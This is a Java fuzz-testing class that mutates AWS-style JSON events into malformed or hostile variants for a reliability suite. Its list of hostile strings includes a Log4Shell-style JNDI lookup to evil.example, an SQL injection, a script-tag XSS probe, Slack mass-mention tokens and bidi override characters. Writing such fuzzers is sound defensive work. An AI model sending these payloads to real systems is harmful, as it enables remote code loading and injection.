package tidewatch.reliability;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import tidewatch.json.Json;
import tidewatch.json.JsonObject;

/**
 * Turns a well-formed sample event into a broken, hostile or odd one, for the fuzz suite. Everything comes from the
 * {@link Random} passed in, so a seed reproduces a mutant exactly.
 *
 * <p>A mutant gets one to three mutations. Most work on the parsed tree (delete, null, retype, hostile text, a
 * 1 MiB string, unknown enum values, deep nesting, records mixed good and bad) and descend into JSON held in a
 * string (an SQS body, an SNS Message); the text-level ones (truncation, garbage bytes) come last.
 */
final class EventMutator {
    static final int HUGE = 1 << 20;

    /** What can be done to an event. */
    enum Kind {
        DELETE_MEMBER(10), NULL_MEMBER(8), WRONG_TYPE(10), NUMBER_FOR_STRING(6), HUGE_STRING(2),
        HOSTILE_EVERY_STRING(6), HOSTILE_INSIDE_STRING(12), CUT_STRING(5), UNKNOWN_ENUM(10), DEEP_NESTING(3),
        EMPTY_CONTAINER(4), EMBEDDED(12), EMBEDDED_GARBAGE(5), RECORDS_MIX(8), TRUNCATE(5), RAW_GARBAGE(3);

        final int weight;

        Kind(int weight) {
            this.weight = weight;
        }

        boolean textLevel() {
            return this == TRUNCATE || this == RAW_GARBAGE;
        }
    }

    /** A mutated event: the bytes to feed a handler and the mutations that made it. */
    record Mutant(byte[] bytes, List<String> mutations, List<Kind> kinds) {
        String text() {
            return new String(bytes, StandardCharsets.UTF_8);
        }

        String describe() {
            return String.join(" + ", mutations);
        }
    }

    /** Text that Slack would act on (mentions, links), that breaks formatting, or that a terminal would obey. */
    static final List<String> HOSTILE = List.of(
            "<!channel>", "<!here>", "<!everyone>", "<@U123>", "<#C0123>", "<https://evil.example|click here>",
            "<mailto:ceo@example.com|mail>", "<http://evil.example>", "```", "`", "&", "&amp;", "&lt;!channel&gt;",
            "*bold*", "_italic_", "~strike~", "> quote", "\u0000", "\u001B[31mred\u001B[0m", "\r\n", "\n\n\n", "\t",
            "\u202Eevil\u202C", "\u2028", "\uFEFF", "\\", "\"", "%s%n", "${jndi:ldap://evil.example/a}", "\uD83D",
            "\uD83D\uDD25", "' OR 1=1 --", "<script>alert(1)</script>", " ", "");

    /** Members whose values are a small vocabulary, where an unknown word must not pass as a known one. */
    static final Set<String> ENUM_KEYS = Set.of(
            "source", "detail-type", "lastStatus", "desiredStatus", "stopCode", "launchType", "group", "type",
            "value", "NewStateValue", "OldStateValue", "namespace", "Namespace", "name", "MetricName", "EventSource",
            "eventSource", "Type", "Region", "region", "returnData", "healthStatus");

    static final List<Object> UNKNOWN_VALUES = List.of(
            "SomethingNew", "STOPPED ", "stopped", "Stopped", "alarm", "ALARM ", "Insufficient_Data", "INSUFFICIENT-DATA",
            "OK\u0000", "\u0130NSUFFICIENT_DATA", "UNKNOWN", "", " ", "TaskFailedToStart2", "aws.ecs.fake",
            "ECS Task State Change ", "CloudWatch Alarm State Change!", "null", "<!channel>", 0, true);

    private static final List<String> GARBAGE_TEXT = List.of(
            "disk full on db-1", "", " ", "{", "}", "[", "null", "true", "42", "\"quoted\"", "[]", "{}", "[{}]",
            "{\"AlarmName\":", "<!channel> wake up", "not json at all", "\u0000\u0001\u0002", "{\"a\":1}{\"b\":2}");

    private final Random random;
    private final List<String> applied = new ArrayList<>();
    private final List<Kind> kinds = new ArrayList<>();
    private final Map<String, String> deep = new LinkedHashMap<>();

    EventMutator(Random random) {
        this.random = random;
    }

    /** One to three mutations of {@code seed}, a JSON document. */
    Mutant mutate(String seed) {
        applied.clear();
        kinds.clear();
        deep.clear();
        Object tree = copy(Json.parse(seed));
        int count = 1 + random.nextInt(3);
        Kind textLevel = null;
        for (int i = 0; i < count; i++) {
            Kind kind = pick();
            if (kind.textLevel()) {
                textLevel = kind;
                break;
            }
            tree = apply(kind, tree, 0);
        }
        byte[] bytes = write(tree).getBytes(StandardCharsets.UTF_8);
        if (textLevel != null) {
            bytes = textLevel == Kind.TRUNCATE ? truncate(bytes) : garbage(bytes);
        }
        return new Mutant(bytes, List.copyOf(applied), List.copyOf(kinds));
    }

    private Kind pick() {
        int total = 0;
        for (Kind kind : Kind.values()) {
            total += kind.weight;
        }
        int roll = random.nextInt(total);
        for (Kind kind : Kind.values()) {
            roll -= kind.weight;
            if (roll < 0) {
                return kind;
            }
        }
        throw new AssertionError();
    }

    private Object apply(Kind kind, Object tree, int depth) {
        List<Slot> slots = slots(tree);
        List<Slot> strings = slots.stream().filter(s -> s.get() instanceof String).toList();
        switch (kind) {
            case DELETE_MEMBER -> {
                if (slots.isEmpty()) {
                    return apply(Kind.WRONG_TYPE, tree, depth);
                }
                Slot slot = any(slots);
                slot.remove();
                note(kind, "delete " + slot.path());
            }
            case NULL_MEMBER -> {
                if (slots.isEmpty()) {
                    return apply(Kind.WRONG_TYPE, tree, depth);
                }
                Slot slot = any(slots);
                slot.set(null);
                note(kind, "null " + slot.path());
            }
            case WRONG_TYPE -> {
                Object replacement;
                if (slots.isEmpty() || random.nextInt(20) == 0) {
                    replacement = otherType(tree);
                    note(kind, "root becomes " + JsonObject.typeName(replacement));
                    return replacement;
                }
                Slot slot = any(slots);
                replacement = otherType(slot.get());
                slot.set(replacement);
                note(kind, slot.path() + " becomes " + JsonObject.typeName(replacement));
            }
            case NUMBER_FOR_STRING -> {
                if (strings.isEmpty()) {
                    return apply(Kind.WRONG_TYPE, tree, depth);
                }
                Slot slot = any(strings);
                Object number = List.of(0, 42, -7, 3.14, Long.MAX_VALUE, new BigInteger("123456789012345678901234567890"),
                        1e300, -0.0).get(random.nextInt(8));
                slot.set(number);
                note(kind, slot.path() + " = " + number);
            }
            case HUGE_STRING -> {
                if (slots.isEmpty()) {
                    return apply(Kind.WRONG_TYPE, tree, depth);
                }
                Slot slot = any(strings.isEmpty() ? slots : strings);
                String unit = List.of("x", "<!channel> & <@U123> ", "line of a log\n", "\u00e9\uD83D\uDD25", "`").get(random.nextInt(5));
                slot.set(unit.repeat(HUGE / unit.length()));
                note(kind, slot.path() + " = 1 MiB of '" + printable(unit) + "'");
            }
            case HOSTILE_EVERY_STRING -> {
                int mode = random.nextInt(4);
                String hostile = any(HOSTILE);
                int changed = hostileEverywhere(tree, hostile, mode, depth);
                note(kind, "every string (" + changed + ") " + List.of("replaced by", "prefixed with", "suffixed with", "split by").get(mode)
                        + " '" + printable(hostile) + "'");
            }
            case HOSTILE_INSIDE_STRING -> {
                if (strings.isEmpty()) {
                    return apply(Kind.WRONG_TYPE, tree, depth);
                }
                Slot slot = any(strings);
                String value = (String) slot.get();
                String hostile = any(HOSTILE);
                int at = value.isEmpty() ? 0 : random.nextInt(value.length() + 1);
                slot.set(value.substring(0, at) + hostile + value.substring(at));
                note(kind, slot.path() + " gets '" + printable(hostile) + "' at " + at);
            }
            case CUT_STRING -> {
                List<Slot> nonEmpty = strings.stream().filter(s -> !((String) s.get()).isEmpty()).toList();
                if (nonEmpty.isEmpty()) {
                    return apply(Kind.DELETE_MEMBER, tree, depth);
                }
                Slot slot = any(nonEmpty);
                String value = (String) slot.get();
                int from = random.nextInt(value.length());
                int to = from + 1 + random.nextInt(value.length() - from);
                slot.set(value.substring(0, from) + value.substring(to));
                note(kind, slot.path() + " loses [" + from + "," + to + ")");
            }
            case UNKNOWN_ENUM -> {
                List<Slot> enums = slots.stream().filter(s -> s.key() instanceof String key && ENUM_KEYS.contains(key)).toList();
                if (enums.isEmpty()) {
                    return apply(Kind.HOSTILE_INSIDE_STRING, tree, depth);
                }
                Slot slot = any(enums);
                Object value = any(UNKNOWN_VALUES);
                slot.set(value);
                note(kind, slot.path() + " = " + printable(String.valueOf(value)));
            }
            case DEEP_NESTING -> {
                int levels = List.of(64, 400, 2_000, 50_000).get(random.nextInt(4));
                String marker = "__tidewatch_fuzz_deep_" + deep.size() + "__";
                deep.put(marker, "[".repeat(levels) + "1" + "]".repeat(levels));
                if (slots.isEmpty()) {
                    note(kind, "root becomes " + levels + " nested arrays");
                    return marker;
                }
                Slot slot = any(slots);
                slot.set(marker);
                note(kind, slot.path() + " becomes " + levels + " nested arrays");
            }
            case EMPTY_CONTAINER -> {
                List<Slot> containers = slots.stream().filter(s -> s.get() instanceof Map || s.get() instanceof List).toList();
                if (containers.isEmpty()) {
                    note(kind, "root becomes {}");
                    return new LinkedHashMap<String, Object>();
                }
                Slot slot = any(containers);
                Object empty = random.nextBoolean() ? new LinkedHashMap<String, Object>() : new ArrayList<>();
                slot.set(empty);
                note(kind, slot.path() + " becomes " + JsonObject.typeName(empty) + " (empty)");
            }
            case EMBEDDED -> {
                List<Slot> embedded = embedded(strings);
                if (embedded.isEmpty() || depth > 2) {
                    return apply(Kind.HOSTILE_INSIDE_STRING, tree, depth);
                }
                Slot slot = any(embedded);
                note(kind, "inside " + slot.path() + ":");
                slot.set(mutateEmbedded((String) slot.get(), depth));
            }
            case EMBEDDED_GARBAGE -> {
                List<Slot> embedded = embedded(strings);
                if (embedded.isEmpty()) {
                    return apply(Kind.NUMBER_FOR_STRING, tree, depth);
                }
                Slot slot = any(embedded);
                String original = (String) slot.get();
                String garbage = random.nextInt(4) == 0 ? original.substring(0, random.nextInt(original.length()))
                        : any(GARBAGE_TEXT);
                slot.set(garbage);
                note(kind, slot.path() + " = '" + printable(garbage.length() > 40 ? garbage.substring(0, 40) + "..." : garbage) + "'");
            }
            case RECORDS_MIX -> {
                if (!(tree instanceof Map<?, ?> root) || !(root.get("Records") instanceof List<?> records) || records.isEmpty()) {
                    return apply(Kind.EMBEDDED, tree, depth);
                }
                note(kind, "records mixed:");
                mixRecords(castList(records), depth);
            }
            default -> throw new AssertionError(kind);
        }
        return tree;
    }

    /** Some records kept, some mutated, some duplicated under a new message id, maybe a garbage record, shuffled. */
    private void mixRecords(List<Object> records, int depth) {
        List<Object> mixed = new ArrayList<>();
        for (int i = 0; i < records.size(); i++) {
            Object record = records.get(i);
            if (random.nextBoolean()) {
                note(null, " record " + i + " mutated:");
                record = apply(Kind.EMBEDDED, record, depth + 1);
            }
            mixed.add(record);
            if (random.nextInt(4) == 0 && record instanceof Map<?, ?> map) {
                Map<String, Object> twin = castMap(copy(map));
                renumber(twin, "dup" + i);
                mixed.add(twin);
                note(null, " record " + i + " duplicated");
            }
        }
        if (random.nextInt(3) == 0) {
            Object junk = List.of(42, "record", List.of(), Map.of(), Map.of("messageId", "junk-" + random.nextInt(1000), "body", any(GARBAGE_TEXT)),
                    Map.of("EventSource", "aws:sns", "Sns", Map.of("Message", any(GARBAGE_TEXT)))).get(random.nextInt(6));
            mixed.add(random.nextInt(mixed.size() + 1), copy(junk));
            note(null, " garbage record " + printable(String.valueOf(junk)));
        }
        for (int i = mixed.size() - 1; i > 0; i--) {
            int j = random.nextInt(i + 1);
            Object swap = mixed.get(i);
            mixed.set(i, mixed.get(j));
            mixed.set(j, swap);
        }
        records.clear();
        records.addAll(mixed);
    }

    private static void renumber(Map<String, Object> record, String suffix) {
        if (record.get("messageId") instanceof String id) {
            record.put("messageId", id + "-" + suffix);
        }
        if (record.get("Sns") instanceof Map<?, ?> sns && sns.get("MessageId") instanceof String id) {
            castMap(sns).put("MessageId", id + "-" + suffix);
        }
    }

    private String mutateEmbedded(String text, int depth) {
        Object inner = copy(Json.parse(text));
        int count = 1 + random.nextInt(2);
        for (int i = 0; i < count; i++) {
            Kind kind = pick();
            if (kind.textLevel()) {
                String written = write(inner);
                note(kind, "truncated");
                return written.substring(0, random.nextInt(Math.max(1, written.length())));
            }
            inner = apply(kind == Kind.RECORDS_MIX ? Kind.WRONG_TYPE : kind, inner, depth + 1);
        }
        return write(inner);
    }

    private int hostileEverywhere(Object node, String hostile, int mode, int depth) {
        int changed = 0;
        for (Slot slot : slots(node)) {
            if (!(slot.get() instanceof String value)) {
                continue;
            }
            if (depth < 2 && looksLikeJson(value)) {
                Object inner = copy(Json.parse(value));
                changed += hostileEverywhere(inner, hostile, mode, depth + 1);
                slot.set(write(inner));
                continue;
            }
            slot.set(switch (mode) {
                case 0 -> hostile;
                case 1 -> hostile + value;
                case 2 -> value + hostile;
                default -> value.isEmpty() ? hostile : value.substring(0, value.length() / 2) + hostile + value.substring(value.length() / 2);
            });
            changed++;
        }
        return changed;
    }

    private byte[] truncate(byte[] bytes) {
        int at = bytes.length == 0 ? 0 : random.nextInt(bytes.length);
        note(Kind.TRUNCATE, "truncated at byte " + at + " of " + bytes.length);
        byte[] cut = new byte[at];
        System.arraycopy(bytes, 0, cut, 0, at);
        return cut;
    }

    private byte[] garbage(byte[] valid) {
        int choice = random.nextInt(5);
        byte[] result;
        String what;
        switch (choice) {
            case 0 -> {
                result = new byte[random.nextInt(200)];
                random.nextBytes(result);
                what = result.length + " random bytes";
            }
            case 1 -> {
                String text = any(GARBAGE_TEXT);
                result = text.getBytes(StandardCharsets.UTF_8);
                what = "'" + printable(text) + "'";
            }
            case 2 -> {
                result = ("\uFEFF" + new String(valid, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8);
                what = "a byte order mark before the event";
            }
            case 3 -> {
                result = (new String(valid, StandardCharsets.UTF_8) + " trailing <!channel>").getBytes(StandardCharsets.UTF_8);
                what = "trailing text after the event";
            }
            default -> {
                result = new byte[] {(byte) 0xC3, (byte) 0x28, '{', '}', (byte) 0xFF};
                what = "invalid UTF-8";
            }
        }
        note(Kind.RAW_GARBAGE, "document replaced by " + what);
        return result;
    }

    private List<Slot> embedded(List<Slot> strings) {
        return strings.stream().filter(s -> looksLikeJson((String) s.get())).toList();
    }

    private static boolean looksLikeJson(String value) {
        String trimmed = value.trim();
        if (!(trimmed.startsWith("{") && trimmed.endsWith("}")) && !(trimmed.startsWith("[") && trimmed.endsWith("]"))) {
            return false;
        }
        try {
            Object parsed = Json.parse(trimmed);
            return parsed instanceof Map || parsed instanceof List;
        } catch (RuntimeException e) {
            return false;
        }
    }

    private Object otherType(Object current) {
        List<Object> candidates = new ArrayList<>(List.of(
                7, -1, 2.5, Long.MIN_VALUE, true, false, "a string", "", List.of(), List.of(1, "two", Map.of()),
                Map.of(), Map.of("unexpected", List.of(true))));
        candidates.removeIf(c -> JsonObject.typeName(c).equals(JsonObject.typeName(current)));
        return copy(candidates.get(random.nextInt(candidates.size())));
    }

    /** The document as text, with the deep-nesting markers swapped for their arrays. */
    private String write(Object tree) {
        String text = Json.write(tree);
        for (Map.Entry<String, String> marker : deep.entrySet()) {
            text = text.replace("\"" + marker.getKey() + "\"", marker.getValue());
        }
        return text;
    }

    private void note(Kind kind, String what) {
        if (kind != null) {
            kinds.add(kind);
            applied.add(kind.name().toLowerCase() + " " + what);
        } else {
            applied.add(what);
        }
    }

    private <T> T any(List<T> items) {
        return items.get(random.nextInt(items.size()));
    }

    /** Escapes control characters so a description prints on one line. */
    static String printable(String text) {
        return printable(text, 60);
    }

    static String printable(String text, int max) {
        StringBuilder out = new StringBuilder();
        text.codePoints().limit(max).forEach(cp -> {
            if (cp < 0x20 || cp == 0x7F || (cp >= 0x2028 && cp <= 0x202E) || cp == 0xFEFF || Character.isSurrogate((char) cp)) {
                out.append(String.format("\\u%04X", cp));
            } else {
                out.appendCodePoint(cp);
            }
        });
        return out.toString();
    }

    /** Every member and element of the tree, with the way to change it; strings holding JSON are not entered here. */
    private static List<Slot> slots(Object root) {
        List<Slot> slots = new ArrayList<>();
        List<Object[]> stack = new ArrayList<>();
        stack.add(new Object[] {root, ""});
        while (!stack.isEmpty()) {
            Object[] top = stack.remove(stack.size() - 1);
            Object node = top[0];
            String path = (String) top[1];
            if (node instanceof Map<?, ?> map) {
                for (Object key : new ArrayList<>(map.keySet())) {
                    Slot slot = new Slot(castMap(map), key, path + "." + key);
                    slots.add(slot);
                    stack.add(new Object[] {map.get(key), slot.path()});
                }
            } else if (node instanceof List<?> list) {
                for (int i = 0; i < list.size(); i++) {
                    Slot slot = new Slot(castList(list), i, path + "[" + i + "]");
                    slots.add(slot);
                    stack.add(new Object[] {list.get(i), slot.path()});
                }
            }
        }
        return slots;
    }

    /** One place in the tree: a member of an object or an element of an array. */
    private record Slot(Object container, Object key, String path) {
        Object get() {
            return container instanceof Map<?, ?> map ? map.get(key) : ((List<?>) container).get((Integer) key);
        }

        void set(Object value) {
            if (container instanceof Map<?, ?> map) {
                castMap(map).put((String) key, value);
            } else {
                castList((List<?>) container).set((Integer) key, value);
            }
        }

        void remove() {
            if (container instanceof Map<?, ?> map) {
                map.remove(key);
            } else {
                ((List<?>) container).remove((int) (Integer) key);
            }
        }
    }

    /** A deep, mutable copy of a JSON tree. */
    static Object copy(Object node) {
        if (node instanceof Map<?, ?> map) {
            Map<String, Object> copy = new LinkedHashMap<>();
            map.forEach((k, v) -> copy.put(String.valueOf(k), copy(v)));
            return copy;
        }
        if (node instanceof List<?> list) {
            List<Object> copy = new ArrayList<>(list.size());
            list.forEach(item -> copy.add(copy(item)));
            return copy;
        }
        return node;
    }

    @SuppressWarnings("unchecked")
    static Map<String, Object> castMap(Object map) {
        return (Map<String, Object>) map;
    }

    @SuppressWarnings("unchecked")
    static List<Object> castList(Object list) {
        return (List<Object>) list;
    }
}
